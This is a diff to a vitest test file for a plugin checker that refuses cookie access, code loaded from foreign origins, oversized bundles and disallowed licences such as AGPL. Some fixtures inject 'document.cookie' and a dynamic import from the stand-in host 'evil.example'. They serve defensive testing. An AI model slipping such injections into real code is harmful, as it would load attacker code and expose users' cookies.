@@ -4,6 +4,7 @@ import type { Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { isAllowed } from '../../host/kit/licences.ts';
 import { createPlugin } from '../../host/kit/create-plugin.ts';
 import { runKit } from '../../host/kit/main.ts';
 import type { PluginPackage, SharedModules } from '../../sdk/package/index.ts';
@@ -96,5 +97,40 @@ describe('check names what a console would refuse', () => {
   test('forbidden code', async () => { expect(await checked('with-cookie', edit(store, 'this.quotes = [...', 'document.cookie; this.quotes = [...'))).toMatch(/^forbiddenCode: cookie/); });
   test('code from elsewhere', async () => { expect(await checked('from-afar', edit(store, 'this.quotes = [...', 'void import(/* @vite-ignore */ "https://evil.example/x.js"); this.quotes = [...'))).toBe('foreignOrigin: https://evil.example/x.js'); });
   test('more bytes than it may have', async () => { expect(await checked('too-fat', edit(store, 'this.quotes = [...', `document.title = ${JSON.stringify('x'.repeat(600_000))}; this.quotes = [...`))).toMatch(/^overBudget: 60\d{4} > 500000$/); });
+  test('a library whose licence does not let it be given to others', async () => {
+    expect(await checked('with-lib', (plugin) => {
+      const library = join(plugin, 'node_modules/left-fence');
+      mkdirSync(library, { recursive: true });
+      writeFileSync(join(library, 'package.json'), JSON.stringify({ name: 'left-fence', version: '1.0.0', type: 'module', main: 'index.js', license: 'AGPL-3.0-only' }));
+      writeFileSync(join(library, 'index.js'), 'export const fence = (text) => `|${text}`;');
+      edit(store, 'import { makeAutoObservable }', "import { fence } from 'left-fence';\nimport { makeAutoObservable }")(plugin);
+      edit(store, 'this.quotes = [...', 'document.title = fence("x"); this.quotes = [...')(plugin);
+    })).toBe('licence: left-fence (AGPL-3.0-only)');
+    expect(['MIT', '(MIT OR GPL-3.0)', 'MIT AND ISC', '(MIT OR GPL-3.0) AND (ISC AND 0BSD)', 'MIT AND GPL-3.0', 'GPL-3.0', '', 'MIT ISC', 'SEE LICENSE IN x'].map(isAllowed)).toEqual([true, true, true, true, false, false, false, false, false]);
+  });
   test('a manifest with a name that is not its own', async () => { expect(await checked('not-mine', edit('plugin.ts', "path: '/partner/not-mine/book'", "path: '/home'"))).toMatch(/^manifestWrong/); });
+});
+
+describe('the suite every plugin keeps to', () => {
+  test('is kept by a plugin as it was made', async () => {
+    const plugin = join(folder, 'keeps-all');
+    createPlugin(plugin, {});
+    const { code, said } = await kit('test', plugin);
+    expect(said).toMatch(/Tests {2}7 passed/);
+    expect(code).toBe(0);
+  }, 120_000);
+  test('names a text that is nowhere, and what setup leaves behind', async () => {
+    const plugin = join(folder, 'keeps-none');
+    createPlugin(plugin, {});
+    const change = (file: string, from: string, to: string): void => writeFileSync(join(plugin, file), readFileSync(join(plugin, file), 'utf8').replace(from, to));
+    change('web/pages/quotes.tsx', "text('title')}</Text>", "text('gone')}</Text>");
+    change('web/index.ts', 'setup: (context) => context', "setup: (context) => { window.addEventListener('resize', () => undefined); context");
+    change('web/index.ts', 'new QuoteBook()),', 'new QuoteBook()); },');
+    const { code, said } = await kit('test', plugin);
+    expect(code).toBe(1);
+    expect(said).toMatch(/× .*in zh > page keeps-none\.book/);
+    expect(said).toContain('keeps-none.gone');
+    expect(said).toMatch(/× .*setup asks nobody/);
+    expect(said).toMatch(/"listeners": 1/);
+  }, 120_000);
 });
